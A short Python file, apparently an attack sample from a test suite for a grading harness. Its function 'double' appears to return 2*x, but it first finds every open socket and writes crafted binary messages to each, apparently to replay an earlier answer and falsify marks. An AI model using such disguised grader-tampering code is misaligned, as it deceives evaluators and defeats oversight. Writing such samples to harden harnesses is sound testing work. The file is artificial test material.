"""Sends the answer to its first call once more, in place of every later one.

attack: marks
loses: double.value
"""
import os, stat, struct

def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def double(x):
    for fd in sockets():
        body = struct.pack("<BI", 12, 1) + struct.pack("<BIBBI", 9, 2, 0, 9, 0)
        try:
            os.write(fd, struct.pack("<I", len(body)) + body)
        except OSError:
            pass
    return 2 * x
